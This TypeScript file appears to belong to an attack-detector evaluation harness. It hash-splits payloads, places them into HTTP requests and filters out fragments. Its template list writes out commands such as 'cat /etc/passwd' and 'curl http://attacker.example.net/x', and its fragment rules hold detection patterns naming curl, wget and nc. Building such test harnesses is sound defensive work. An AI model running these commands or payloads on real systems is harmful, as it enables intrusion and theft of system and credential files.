/**
 * The public evaluation's rules, pure and tested (test/insight/eval.test.ts): which part a payload
 * belongs to (tuning or held out), which payloads are fragments that are no attack on their own, and
 * where in a request a client puts a value. Decided on the payload alone: nothing here asks the
 * detector.
 */
import type { AttackClass, BenignKind, FreshPart } from './sources.ts'

export interface PlacedRequest {
  /** where the value went, e.g. "query:q", "json", "header:user-agent", "path" */
  where: string
  path: string
  query: string
  headers: Record<string, string>
  body: string | null
}

/**
 * FNV-1a, 32 bits, then murmur3's finaliser: the split and every deterministic choice hang on it.
 * Without the finaliser FNV-1a's low bits are a parity of the characters' low bits, and the split
 * (bit 0) and the placement (the low bits) would be tied to each other.
 */
export function hash32(text: string): number {
  let h = 0x811c9dc5
  for (let i = 0; i < text.length; i++) {
    h ^= text.charCodeAt(i)
    h = Math.imul(h, 0x01000193)
  }
  h ^= h >>> 16
  h = Math.imul(h, 0x85ebca6b)
  h ^= h >>> 13
  h = Math.imul(h, 0xc2b2ae35)
  h ^= h >>> 16
  return h >>> 0
}

/** The two halves of the first sources, and the fresh parts (sources.ts, FRESH_PARTS; build.ts: later sources, each all of it one part). */
export type Part = 'tune' | 'held-out' | FreshPart

/**
 * The parts that are only ever measured (run.ts shows their figures, never their misses or false
 * positives): the held-out half. A fresh part is
 * one of them from its build to its one measurement (the fourth's to the seventh's: 2026-12-02; the
 * eighth's: 2026-12-03 at 1e7403a; the ninth's: 2026-12-03 at d1bcda5; the tenth's: 2026-12-03 at
 * 9179dc5; the eleventh's: 2026-12-03 at 836bb1f; the twelfth's: 2026-12-03 at 4fae2b6; the thirteenth's: 2026-12-03 at 895ede0; the fourteenth's: 2026-12-03 at ed7b451; the fifteenth's: 2026-12-03 at 5832b89; the sixteenth's: 2026-12-04 at 94130a1; the seventeenth's: 2026-12-04 at 90e1261; the eighteenth's: 2026-12-04 at 27a7c43; the nineteenth's: 2026-12-04 at d2d7d1b; the twentieth's: 2026-12-04 at 63bcd65; the twenty-first's: 2026-12-04 at 8e77cd6; the twenty-second's: 2026-12-04 at e74a477; the twenty-third's: 2026-12-04 at bf9b635; the twenty-fourth's: 2026-12-04 at e27de4a; the twenty-fifth's: 2026-12-04 at 35ced29; the twenty-sixth's: 2026-12-04 at 3d3179e; the twenty-seventh's: 2026-12-04 at 7923778; the twenty-eighth's: 2026-12-04 at bebdcfe; the twenty-ninth's: 2026-12-05 at dee7226; the thirtieth's: 2026-12-05 at d11e9dd; the thirty-first's: 2026-12-05 at 8a4c2ac; the thirty-second's: 2026-12-05 at 6af0a45; the thirty-third's: 2026-12-05 at 6a612d6; the thirty-fourth's: 2026-12-05 at 7621917; the thirty-fifth's: 2026-12-05 at e8c1f37; the thirty-sixth's: 2026-12-05 at 3447501; the thirty-seventh's: 2026-12-05 at 32c93c7; the thirty-eighth's: 2026-12-05 at 6477d71; the thirty-ninth's: 2026-12-05 at 494fde7; the fortieth's: 2026-12-05 at 1d93ec0; the forty-first's and forty-second's: 2026-12-05 at 34beddf; the forty-third's: 2026-12-05 at e399095; the forty-fourth's: 2026-12-05 at 08f7d6c; the forty-fifth's and forty-sixth's: 2026-12-05 at a95bf5f; the forty-seventh's and forty-eighth's: 2026-12-05 at ba0f04c; the forty-ninth's and fiftieth's: 2026-12-05 at 8eba866; the fifty-first's and fifty-second's: 2026-12-05 at b8a269a; the fifty-third's: 2026-12-05 at cc6f785; the fifty-fourth's: 2026-12-05 at b231de4; the fifty-fifth's and fifty-sixth's: 2026-12-05 at 793d810; the fifty-seventh's and fifty-eighth's: 2026-12-05 at 8d85258; the fifty-ninth's and sixtieth's: 2026-12-05 at b63b636; the sixty-first's and sixty-second's: 2026-12-05 at c3c0a1d; the sixty-third's and sixty-fourth's: 2026-12-05 at 06d5c1b; the sixty-fifth's and sixty-sixth's: 2026-12-05 at 78209ef; the sixty-seventh's and sixty-eighth's: 2026-12-05 at 2ce126f; the sixty-ninth's and seventieth's: 2026-12-05 at ca2ca87; the seventy-first's and seventy-second's: 2026-12-05 at 98652a8; the seventy-third's and seventy-fourth's: 2026-12-05 at f6ae327; the seventy-fifth's and seventy-sixth's: 2026-12-05 at d268721; the seventy-seventh's and seventy-eighth's: 2026-12-05 at 473ab5d; the seventy-ninth's and eightieth's: 2026-12-05 at 96a5642; the eighty-first's and eighty-second's: 2026-12-05 at 064814b; the eighty-third's and eighty-fourth's: 2026-12-06 at 5413e21; the eighty-fifth's to ninetieth's: 2026-12-06 at b945f65; the ninety-first's and ninety-second's: 2026-12-06 at f7aa37e; the ninety-third's to ninety-sixth's: 2026-12-06 at 23ae99b; the ninety-seventh's and ninety-eighth's: 2026-12-06 at 2d4cecd; the ninety-ninth's and hundredth's: 2026-12-06 at d89b2ee; the hundred-and-first's and hundred-and-second's: 2026-12-06 at a89a52c; the hundred-and-third's and hundred-and-fourth's: 2026-12-06 at 2bff375; the hundred-and-fifth's and hundred-and-sixth's: 2026-12-06 at 6e5c715; the hundred-and-seventh's and hundred-and-eighth's: 2026-12-06 at 0869953; the hundred-and-ninth's: 2026-12-06 at 7f03250; the hundred-and-tenth's: 2026-12-06 at 4ee9fb9; the hundred-and-eleventh's: 2026-12-06 at 0d47655; the hundred-and-twelfth's: 2026-12-06 at c2184c1; the hundred-and-thirteenth's: 2026-12-06 at 0a41b24; the hundred-and-fourteenth's: 2026-12-06 at 61dd530; the hundred-and-fifteenth's: 2026-12-06 at 83a86fb; the hundred-and-sixteenth's: 2026-12-06 at 1df78b4; the hundred-and-seventeenth's: 2026-12-06 at bb08ad3; the hundred-and-eighteenth's: 2026-12-06 at 17ac893; the hundred-and-nineteenth's: 2026-12-06 at 8c5ab3b; the hundred-and-twentieth's: 2026-12-06 at f80c83f; the hundred-and-twenty-first's: 2026-12-06 at 480310d; the hundred-and-twenty-second's: 2026-12-06 at 4af0a61; the hundred-and-twenty-third's: 2026-12-06 at 6d5b08f; the hundred-and-twenty-fourth's: 2026-12-06 at f7ff212; the hundred-and-twenty-fifth's: 2026-12-06 at 2be6d9b; the hundred-and-twenty-sixth's: 2026-12-06 at 0b81930; the hundred-and-twenty-seventh's: 2026-12-06 at 0fb25d0; the hundred-and-twenty-eighth's: 2026-12-06 at ec1b851; the hundred-and-twenty-ninth's: 2026-12-06 at c9f71fd; the hundred-and-thirtieth's: 2026-12-06 at 18b5871; the hundred-and-thirty-first's: 2026-12-07 at 3288360; the hundred-and-thirty-second's: 2026-12-07 at 3288360; the hundred-and-thirty-third's: 2026-12-07 at 6652ec4; the hundred-and-thirty-fourth's: 2026-12-07 at 6652ec4; the hundred-and-thirty-fifth's: 2026-12-07 at 29eee59; the hundred-and-thirty-sixth's: 2026-12-07 at 29eee59; the hundred-and-thirty-seventh's: 2026-12-07 at 2e75d95; the hundred-and-thirty-eighth's: 2026-12-07 at 2e75d95; the hundred-and-thirty-ninth's: 2026-12-07 at 0699024; the hundred-and-fortieth's: 2026-12-07 at 0699024; the hundred-and-forty-first's: 2026-12-07 at 8bbb754; the hundred-and-forty-second's: 2026-12-07 at 8bbb754; the hundred-and-forty-third's: 2026-12-07 at 2281639; the hundred-and-forty-fourth's: 2026-12-07 at 2281639; the hundred-and-forty-fifth's: 2026-12-07 at 0e6898f; the hundred-and-forty-sixth's: 2026-12-07 at 0e6898f; the hundred-and-forty-seventh's: 2026-12-07 at 32ccdc2; the hundred-and-forty-eighth's: 2026-12-07 at 32ccdc2; the hundred-and-forty-ninth's: 2026-12-07 at 10a47bf; the hundred-and-fiftieth's: 2026-12-07 at 10a47bf; the hundred-and-fifty-first's: 2026-12-07 at 10a47bf; the hundred-and-fifty-second's: 2026-12-07 at 10a47bf; the hundred-and-fifty-third's: 2026-12-07 at 57f65fc; the hundred-and-fifty-fourth's: 2026-12-07 at 57f65fc; the hundred-and-fifty-fifth's: 2026-12-07 at 5dd0650; the sixty-ninth's and seventieth's: 2026-12-05 at ca2ca87; docs/detection.md), then spent and tuned on.
 */
export const MEASURE_ONLY: readonly Part[] = ['held-out']

/**
 * Half the payloads (and half the benign values) are for tuning, half are held out, by a hash of
 * the class (or kind) and the value: the same on every run, blind to what the detector says.
 */
export function partOf(label: string, value: string): 'tune' | 'held-out' {
  return hash32(`api-sessions/eval/v1\0${label}\0${value}`) % 2 === 0 ? 'tune' : 'held-out'
}

const PERCENT_ESCAPE = /%(?:[0-9a-f]{2}|u[0-9a-f]{4})/i
/** Written already URL-encoded (`%2e%2e%2f`, `%0d%0a`): sent as written. */
const preEncoded = (p: string) => PERCENT_ESCAPE.test(p)

/**
 * A value as it goes into a URL when it was written pre-encoded: only what a URL cannot carry is
 * escaped (blanks, controls, quotes, angle brackets, `#`, non-ASCII), as a browser or curl does.
 */
export function asUrl(p: string): string {
  let out = ''
  for (const ch of p) {
    const c = ch.codePointAt(0)!
    if (c <= 0x20 || c >= 0x7f || ch === '"' || ch === '<' || ch === '>' || ch === '#' || ch === '`' || ch === '{' || ch === '}' || ch === '|' || ch === '\\' || ch === '^') out += encodeURIComponent(ch)
    else out += ch
  }
  return out
}

/** A query or form value as a client library encodes it, or as written when pre-encoded (or taken from a raw request's URL: `raw`). */
export const queryValue = (p: string, raw = false) => (raw || preEncoded(p) ? asUrl(p).replace(/&/g, '%26') : encodeURIComponent(p))
const formValue = (p: string, raw = false) => (raw ? queryValue(p, true) : queryValue(p).replace(/%20/g, '+'))

/**
 * Where a value taken from a raw request was written for the URL: a query or form value (`+` is a
 * blank there) or a path. Such a value is sent as written where it was encoded for (a query, a form,
 * a path) and decoded once anywhere else (a JSON field, a header, a cookie, XML), as a client sends it.
 */
export type Encoded = 'query' | 'path'

/** A URL-encoded value decoded once (`+` as a blank in a query's); escapes that are no UTF-8 as their bytes. */
export function urlDecodedOnce(p: string, as: Encoded): string {
  const s = as === 'query' ? p.replace(/\+/g, ' ') : p
  try {
    return decodeURIComponent(s)
  } catch {
    return s.replace(/%([0-9a-f]{2})/gi, (_, h: string) => String.fromCharCode(parseInt(h, 16)))
  }
}

/** The placements that carry a value URL-encoded (a raw request's encoded value goes there as written). */
const URL_PLACES = new Set(['query', 'query-name', 'query-raw', 'path', 'path-raw', 'path-file', 'form'])

/** What a header can carry: Latin-1 without CR, LF or NUL (Node refuses the rest). */
 
const headerSafe = (p: string) => !/[\r\n\0]|[^\x00-\xff]/.test(p)
const cookieSafe = (p: string) => /^[\x21\x23-\x2b\x2d-\x3a\x3c-\x5b\x5d-\x7e]+$/.test(p)
const xmlEscape = (p: string) => p.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')

const BASE_HEADERS = { host: 'shop.example.com', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0', accept: '*/*' }

function request(where: string, init: Partial<PlacedRequest> & { headers?: Record<string, string> }): PlacedRequest {
  return { where, path: init.path ?? '/api/v1/items', query: init.query ?? '', headers: { ...BASE_HEADERS, ...init.headers }, body: init.body ?? null }
}

/** The placements a value can take, by name; each returns null where the value cannot go. */
const PLACE_AS_WRITTEN: Record<string, (p: string, name: string, raw?: boolean) => PlacedRequest | null> = {
  query: (p, name, raw) => request(`query:${name}`, { query: `page=1&${name}=${queryValue(p, raw)}` }),
  'query-name': (p, _, raw) => request('query-name', { query: `${queryValue(p, raw).replace(/=/g, '%3D')}=1&page=2` }),
  'query-raw': (p) => request('query-raw', { query: asUrl(p.startsWith('?') ? p.slice(1) : p) }),
  path: (p, _, raw) => request('path', { path: `/api/v1/items/${raw || preEncoded(p) ? asUrl(p).replace(/\?/g, '%3F') : encodeURIComponent(p)}` }),
  'path-raw': (p) => {
    const raw = asUrl(p.startsWith('/') ? p : `/${p}`)
    const q = raw.indexOf('?')
    return request('path-raw', { path: q === -1 ? raw : raw.slice(0, q), query: q === -1 ? '' : raw.slice(q + 1) })
  },
  'path-file': (p) => !/^(?:\.|%2e|%252e|%c0%ae|0x2e)/i.test(p) ? null : request('path-file', { path: `/static/${asUrl(p.replace(/^[/\\]+/, ''))}`.replace(/\?/g, '%3F') }),
  json: (p, name) => request(`json:${name}`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: 7, [name]: p, tags: ['new'] }) }),
  'json-raw': (p) => {
    try {
      JSON.parse(p)
    } catch {
      return null
    }
    return request('json-raw', { headers: { 'content-type': 'application/json' }, body: p })
  },
  form: (p, name, raw) => request(`form:${name}`, { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `id=7&${name}=${formValue(p, raw)}&submit=Send` }),
  multipart: (p, name) =>
    request(`multipart:${name}`, {
      headers: { 'content-type': 'multipart/form-data; boundary=----formdata7' },
      body: `------formdata7\r\nContent-Disposition: form-data; name="id"\r\n\r\n7\r\n------formdata7\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${p}\r\n------formdata7--\r\n`,
    }),
  xml: (p, name) => request(`xml:${name}`, { headers: { 'content-type': 'application/xml' }, body: `<?xml version="1.0"?><order><id>7</id><${name}>${xmlEscape(p)}</${name}></order>` }),
  'xml-raw': (p) => request('xml-raw', { headers: { 'content-type': 'application/xml' }, body: p }),
  header: (p, name) => (headerSafe(p) ? request(`header:${name}`, { headers: { [name]: p } }) : null),
  cookie: (p, name) => request(`cookie:${name}`, { headers: { cookie: `theme=dark; ${name}=${cookieSafe(p) ? p : encodeURIComponent(p)}; lang=en` } }),
  'cookie-name': (p) => request('cookie-name', { headers: { cookie: `theme=dark; ${encodeURIComponent(p)}=1` } }),
}

/** The placements for a value taken encoded from a raw request's URL. */
function placeEncoded(as: Encoded): typeof PLACE_AS_WRITTEN {
  const out: typeof PLACE_AS_WRITTEN = {}
  for (const [k, put] of Object.entries(PLACE_AS_WRITTEN)) out[k] = URL_PLACES.has(k) ? (p, name) => put(p, name, true) : (p, name) => put(urlDecodedOnce(p, as), name)
  return out
}

type Slot = readonly [placement: string, name: string]

/** Where a payload of each class goes: one slot per payload, chosen by its hash. */
const GENERIC: readonly Slot[] = [
  ['query', 'q'], ['query', 'id'], ['query', 'search'], ['json', 'comment'], ['json', 'name'], ['form', 'comment'], ['multipart', 'description'], ['xml', 'note'],
  ['header', 'x-client-data'], ['header', 'referer'], ['header', 'user-agent'], ['cookie', 'prefs'], ['path', ''], ['query-name', ''], ['cookie-name', ''],
]
const SLOTS: Record<AttackClass, readonly Slot[]> = {
  sqli: GENERIC,
  xss: GENERIC,
  rce: GENERIC,
  ssti: GENERIC,
  ssi: GENERIC,
  ldapi: [['query', 'user'], ['query', 'filter'], ['json', 'username'], ['form', 'login'], ['cookie', 'user'], ['header', 'x-client-data']],
  nosqli: [['query', 'user'], ['query', 'q'], ['json', 'username'], ['form', 'password'], ['cookie', 'user'], ['header', 'x-client-data']],
  path_traversal: [['query', 'file'], ['query', 'page'], ['json', 'path'], ['form', 'template'], ['cookie', 'lang'], ['path-file', ''], ['header', 'x-client-data']],
  ssrf: [['query', 'url'], ['query', 'image_url'], ['query', 'callback'], ['json', 'webhook_url'], ['json', 'source'], ['form', 'feed'], ['xml', 'url']],
  open_redirect: [['query', 'next'], ['query', 'redirect'], ['query', 'return_to'], ['query', 'url'], ['form', 'continue'], ['json', 'redirect_uri']],
  crlf: [['query', 'lang'], ['query', 'next'], ['query', 'q'], ['form', 'page']],
  jndi: [['header', 'user-agent'], ['header', 'x-api-version'], ['header', 'referer'], ['header', 'x-client-data'], ['cookie', 'session'], ['query', 'q'], ['json', 'username'], ['form', 'login']],
  xxe: [['xml-raw', '']],
  scanner: [['path-raw', '']],
}

const QUERY_STRING = /^\??[\w.[\]$-]{1,40}=[^\s&]*(?:&[\w.[\]$-]{1,40}=[^\s&]*)*$/

/**
 * The request that carries an attack payload of a class, as a client or an attacker's tool sends it.
 * `encoded`: the payload was taken from a raw request's URL, encoded for it (a WAF's regression
 * test): as written in a URL place, decoded once elsewhere. The place is chosen as for any payload.
 */
export function placeAttack(cls: AttackClass, p: string, encoded?: Encoded): PlacedRequest {
  const h = hash32(`${cls}\0${p}`)
  const PLACE = encoded === undefined ? PLACE_AS_WRITTEN : placeEncoded(encoded)
  // shapes that say where they go: a whole query string, a JSON document, a path, an operator suffix
  if (cls === 'nosqli' || cls === 'open_redirect' || cls === 'ssrf') {
    if (p.startsWith('[')) return PLACE['query-raw']!(`user${p}${p.includes('=') ? '' : '=1'}`, '')!
    if (QUERY_STRING.test(p)) return PLACE['query-raw']!(p, '')!
    if (p.startsWith('{')) {
      const placed = PLACE['json-raw']!(p, '')
      if (placed !== null) return placed
    }
  }
  if ((cls === 'open_redirect' || cls === 'crlf') && p.startsWith('/') && (h & 1) === 0) return PLACE['path-raw']!(p, '')!
  if ((cls === 'open_redirect' || cls === 'crlf') && (/^\/?\?/.test(p) || /^\/[^?]*\?[\w.-]+=/.test(p))) return PLACE['path-raw']!(p, '')!
  const slots = SLOTS[cls]
  for (let i = 0; i < slots.length; i++) {
    const [placement, name] = slots[(h + i) % slots.length]!
    const placed = PLACE[placement]!(p, name)
    if (placed !== null) return placed
  }
  return PLACE.query!(p, 'q')!
}

const BENIGN_SLOTS: Record<Exclude<BenignKind, 'api_traffic'>, readonly Slot[]> = {
  prose: [['query', 'q'], ['json', 'comment'], ['form', 'message'], ['multipart', 'description'], ['xml', 'note'], ['header', 'x-client-data'], ['cookie', 'last_search']],
  names: [['query', 'name'], ['json', 'name'], ['form', 'name'], ['path', ''], ['cookie', 'user'], ['header', 'x-client-data'], ['xml', 'name']],
  addresses: [['query', 'address'], ['json', 'address'], ['form', 'street'], ['xml', 'address'], ['multipart', 'address']],
  urls: [['query', 'url'], ['query', 'redirect_uri'], ['query', 'next'], ['json', 'website'], ['json', 'callback_url'], ['form', 'url'], ['header', 'referer'], ['xml', 'link']],
  emails: [['query', 'email'], ['json', 'email'], ['form', 'email'], ['path', ''], ['cookie', 'login'], ['header', 'x-client-data']],
  code: [['json', 'snippet'], ['form', 'snippet'], ['multipart', 'file'], ['query', 'q'], ['xml', 'code']],
  markdown: [['json', 'body'], ['form', 'body'], ['multipart', 'readme'], ['json', 'description']],
  json: [['json-raw', ''], ['json-raw', ''], ['json', 'document'], ['form', 'payload']],
  base64: [['query', 'data'], ['json', 'data'], ['cookie', 'state'], ['header', 'x-client-data'], ['form', 'blob']],
  jwt: [['cookie', 'session'], ['query', 'token'], ['json', 'token'], ['header', 'x-client-data'], ['form', 'id_token']],
}

/** The request that carries a benign value of a kind. */
export function placeBenign(kind: Exclude<BenignKind, 'api_traffic'>, v: string): PlacedRequest {
  const slots = BENIGN_SLOTS[kind]
  const h = hash32(`${kind}\0${v}`)
  for (let i = 0; i < slots.length; i++) {
    const [placement, name] = slots[(h + i) % slots.length]!
    const placed = PLACE_AS_WRITTEN[placement]!(v, name)
    if (placed !== null) return placed
  }
  return PLACE_AS_WRITTEN.json!(v, 'value')!
}

// ---- an API description's examples ------------------------------------------------------------------

/** Where an API description says a parameter goes: the URL's query or path, a header, a cookie, or a top-level field of a JSON body. */
export type ApiWhere = 'query' | 'header' | 'path' | 'cookie' | 'json'

/** A parameter's example as an API description gives it (build.ts, openapiExamples): under its real name, a string, a number or a boolean. */
export interface ApiExample {
  where: ApiWhere
  name: string
  value: string | number | boolean
}

/** Headers a client does not set itself as a parameter (hop by hop, or the request's own framing and host), and the cookie header (a cookie parameter is one). */
const NOT_A_HEADER_PARAMETER = new Set(['host', 'content-length', 'transfer-encoding', 'connection', 'keep-alive', 'proxy-connection', 'upgrade', 'te', 'trailer', 'cookie'])
const TOKEN = /^[!#$%&'*+.^_`|~0-9A-Za-z-]+$/

/** A parameter's name in a query string: encoded as a client library does, but `[` and `]` (`filter[status]`, `page[size]`) as written. */
const queryName = (n: string) => encodeURIComponent(n).replace(/%5B/gi, '[').replace(/%5D/gi, ']')

/**
 * The request that carries one example of an API description as a client sends it, under its real name
 * and alone: a query parameter as `?name=value` (encoded), a path parameter as the last segment
 * (encoded), a header `name: value`, a cookie `name=value`, a body field as `{"name": value}` (its JSON
 * type kept). Null where the value cannot go so: a header or cookie name that is no token, a header a
 * client does not set as a parameter (host, framing, hop by hop, cookie), a header value Node refuses.
 */
export function placeApiExample(e: ApiExample): PlacedRequest | null {
  const text = String(e.value)
  switch (e.where) {
    case 'query':
      return request(`query:${e.name}`, { query: `${queryName(e.name)}=${encodeURIComponent(text)}` })
    case 'path':
      return request(`path:${e.name}`, { path: `/api/v1/items/${encodeURIComponent(text)}` })
    case 'header': {
      const name = e.name.toLowerCase()
      if (!TOKEN.test(name) || NOT_A_HEADER_PARAMETER.has(name) || !headerSafe(text)) return null
      return request(`header:${name}`, { headers: { [name]: text } })
    }
    case 'cookie':
      if (!TOKEN.test(e.name)) return null
      return request(`cookie:${e.name}`, { headers: { cookie: `${e.name}=${cookieSafe(text) ? text : encodeURIComponent(text)}` } })
    case 'json':
      return request(`json:${e.name}`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ [e.name]: e.value }) })
  }
}

/** An API description's request-body example (a JSON document) as a client sends it: the body of a JSON request, as written. */
export function placeApiBody(doc: string): PlacedRequest | null {
  return PLACE_AS_WRITTEN['json-raw']!(doc, '')
}

// ---- fragments ---------------------------------------------------------------------------------

const LETTERS = /[a-z]{2}/i
const SQL_WORD = /\b(?:or|and|xor|not|union|select|insert|update|delete|drop|exec|execute|declare|waitfor|sleep|benchmark|having|order|group|like|rlike|regexp|where|from|into|cast|convert|char|concat|substring|ascii|if|case|when|pg_sleep|dbms_\w+|utl_\w+|load_file|outfile|information_schema|sysobjects|version|user|database|shutdown|truncate|create|alter|grant|limit|offset|procedure|analyse)\b|@@|[=<>]|--|#|\/\*/i
const SHELL_WORD = /[a-z]{2}/i
const ANY_URL_OR_HOST = /[a-z][a-z0-9+.-]{1,15}:|^[\w.:[\]-]+$/i

function decodeOnce(p: string): string {
  try {
    return decodeURIComponent(p)
  } catch {
    return p
  }
}

/**
 * Whether a payload is a fragment, no attack on its own: a lone character or escape, a separator,
 * a list's placeholder, a tag or attribute name, or a line of the class's list that carries none
 * of the class's substance (a SQL list's lone quote, an LDAP list's lone "*", a template list's
 * prose). The rules look at the payload's text only.
 */
export function fragmentReason(cls: AttackClass, p: string): string | null {
  const d = decodeOnce(p).trim()
  if (d.length < 3) return 'shorter than 3 characters'
   
  if (cls !== 'ldapi' && !/[a-z0-9]/i.test(d.replace(/[\x00-\x1f]/g, ''))) return 'no letter or digit'
  if (/^#+\s+[a-z][a-z'-]*\s+[a-z]/i.test(d)) return "a list's comment line"
  if (/^\S{1,40}@\S{1,40}:\S{0,40}[$#]\s/.test(d) || /^\$\s+[a-z]/i.test(d)) return 'a shell transcript line (a prompt)'
  if (/\{(?:payload|cmd|target|file|url|host|domain)\}|§|FUZZ\b|\bcommand\d\b|\[(?:ROLE NAME|ID|ATTACKER[^\]]*)\]|<(?:user|auth|host|port|word|database|n|text|IP|attacker[^>]*)>/i.test(d)) return 'an unfilled placeholder'
  switch (cls) {
    case 'sqli':
      if (!LETTERS.test(d) && !/\d\s*[=<>]/.test(d)) return 'no SQL'
      if (!SQL_WORD.test(d)) return 'no SQL keyword, operator or comment'
      if (/^[\w\s]+$/.test(d) && !/\b(?:or|and)\s+\d|\bunion\b|\bselect\b|\bsleep\b|\bwaitfor\b/i.test(d)) return 'words only'
      return null
    case 'xss': {
      if (!/[<>"'`(=:]/.test(d)) return 'no markup, quote, call or scheme'
      if (/^[a-z-]+$/i.test(d) || /^on[a-z]+$/i.test(d)) return 'a tag or attribute name'
      // markup or text with nothing in it that runs: no script, handler, script URL, style
      // expression or binding, no loaded source, no call (a list's HTML fragment or comment line).
      // Declarations run nothing by themselves (a comment, `<?xml …?>`, `xmlns=`, a DOCTYPE's
      // opening line: what they wrap is judged all the same); a stylesheet's url(…) loads an image
      // or a font, no call; a call is a name then "(" (prose's "Chrome (any…)" is none), a template
      // literal a name then "`"
      const t = d
        .replace(/&#x?0*([0-9a-f]{1,6});?/gi, (m, n: string) => (m.toLowerCase().startsWith('&#x') ? String.fromCharCode(parseInt(n, 16)) : String.fromCharCode(Number(n))))
        .toLowerCase()
        .replace(/\burl\(/g, ' ')
      if (!/script|\bon[a-z]{3,}|javas|vbs|livescript|data:|expression|express|binding|behavior\s*:|import|\bsrc|href|action|srcdoc|datasrc|[\w$\])]\(|[\w$]`|constructor|eval|alert|prompt|confirm|&\{|\+adw-|http-equiv|<meta|<link|<iframe|<embed|<object|<svg|<math|<base|<xss|<layer|<style/.test(t)) return 'markup with nothing that runs'
      return null
    }
    case 'path_traversal':
      if (!/\.\.|[/\\]/.test(d) && !/^[a-z]:/i.test(d)) return 'no path'
      if (/^[/\\]*$/.test(d.replace(/\./g, ''))) return 'dots and slashes only'
      return null
    case 'rce':
      if (!SHELL_WORD.test(d)) return 'no command'
      if (/^\$\{?\w+\}?$/.test(d)) return 'a shell variable alone'
      // a template expression that runs no command is template injection (the ssti class's), not a command
      if (/^(?:\{\{|\{%)[\s\S]*(?:\}\}|%\})$/.test(d) && !/\b(?:exec\w*|system|popen|spawn\w*|child_process|subprocess|os|eval|__import__|import|require|runtime|processbuilder|cmd|shell|bash|sh|whoami|id|ls|cat|uname|ping|curl|wget|nc)\b/i.test(d)) return 'a template expression running no command (template injection)'
      return null
    case 'ssrf':
      if (!ANY_URL_OR_HOST.test(d)) return 'neither a URL nor a host'
      // a web URL to a public name, with no address, internal name or testing service in its host and
      // no address or URL in the rest: a reference link or a redirector's page, not a forged request
      {
        const url = /^https?:\/\/([^/?#\s]+)(.*)$/i.exec(d)
        if (url !== null && /^[a-z][\w-]*(?:\.[\w-]+)*\.[a-z]{2,12}(?::\d+)?$/i.test(url[1]!) && !/(?:^|\.)(?:localhost|local|internal|intranet|corp|lan|metadata|instance-data|localtest|lvh|vcap|localh|nip|sslip|xip|oast\w*|burpcollaborator|interact|requestbin|dnslog|ceye|r3dir|rbndr|1u)\./i.test(`${url[1]}.`) && !/\d{1,3}[.-]\d{1,3}[.-]\d{1,3}[.-]\d{1,3}|localhost|:\/\/|%3a%2f%2f/i.test(url[2]!)) return 'a public web URL with no internal target'
      }
      return null
    case 'nosqli':
      if (/^\$\w+$/.test(d)) return 'an operator name alone'
      if (!/[$]|this\.|return|sleep|==|\|\||&&|db\./i.test(d)) return 'no operator or JavaScript'
      return null
    case 'ldapi':
      // a filter broken out of: ")(" "(|" "(&" "(!" "*)"; not a quoted XPath or SQL condition
      if (!/\)\s*\(|\(\s*[|&!]|\*\s*\)/.test(d)) return 'no filter syntax'
      if (/'\s*or\b|\bor\s*'/i.test(d)) return 'not LDAP (a quoted XPath or SQL condition)'
      return null
    case 'xxe':
      if (!/<!(?:doctype|entity)|xi:include|xmlns:xi/i.test(d)) return 'no DTD, entity or XInclude'
      if (/^<!doctype\s+[\w:-]+\s*\[?$/i.test(d)) return "a DTD's opening line alone"
      if (!/system|public|%|&|xi:include|xinclude|<!element|<!attlist/i.test(d)) return 'an internal entity with a plain value'
      return null
    case 'jndi':
      if (!/\$\{/.test(d)) return 'no lookup'
      if (!/ldap|rmi|dns|iiop|corba|nds|nis|http|\/\//i.test(d)) return 'a lookup with no protocol (no JNDI)'
      return null
    case 'ssti':
      if (!/\{\{|\$\{|<%|#\{|\{%|\*\{|\[#|@\(|\{\$|@\{|\{#/.test(d)) return 'no template syntax'
      return null
    case 'ssi':
      if (!/<!--#|<esi:/i.test(d)) return 'no directive'
      return null
    case 'crlf':
      if (!/%0[ad]|%e5%98%8[ad]|\\r|\\n|%5cr|%5cn|%u000[ad]|\r|\n/i.test(p)) return 'no line break'
      if (!/[a-z]{3}/i.test(d.replace(/%[0-9a-f]{2}|\\[rn]/gi, ''))) return 'a line break alone'
      return null
    case 'open_redirect':
      if (!/[a-z]{2}.*\.[a-z]|\d+\.\d+/i.test(d)) return 'no host'
      return null
    case 'scanner':
      return null
  }
}

// ---- templates -----------------------------------------------------------------------------------

/** What a list's `{cmd}`, `{target}` and `{FILE}` stand for, in turn (by the line's hash). */
const COMMANDS = ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la', 'sleep 5', 'ping -c 3 attacker.example.net', 'dir', 'type C:\\Windows\\win.ini', 'curl http://attacker.example.net/x']
const TARGETS = ['attacker.example.net', 'evil.example.org', 'www.evil-site.example']
const FILES = ['etc/passwd', 'etc/shadow', 'windows/win.ini', 'boot.ini', 'etc/hosts']
const BACKUP_SUFFIXES = ['.bak', '~', '.old', '.orig', '.save', '.swp', '.copy', '.tmp', '.backup', '.bck', '.sav', '.1']

export function fillTemplate(line: string): string[] {
  const h = hash32(line)
  if (line.includes('{cmd}')) return [line.replaceAll('{cmd}', COMMANDS[h % COMMANDS.length]!)]
  if (line.includes('{target}')) return [line.replaceAll('{target}', TARGETS[h % TARGETS.length]!)]
  if (line.includes('{FILE}')) return [line.replaceAll('{FILE}', FILES[h % FILES.length]!)]
  return [line]
}

/** Backup-file probes: a page with each backup suffix, and as a "Copy of". */
export function backupProbes(page: string): string[] {
  const q = page.indexOf('?')
  const p = (q === -1 ? page : page.slice(0, q)).replace(/^(?!\/)/, '/')
  if (p.endsWith('/')) return []
  const slash = p.lastIndexOf('/')
  return [...BACKUP_SUFFIXES.map((s) => `${p}${s}`), `${p.slice(0, slash + 1)}Copy%20of%20${p.slice(slash + 1)}`, `${p.slice(0, slash + 1)}.${p.slice(slash + 1)}.swp`]
}
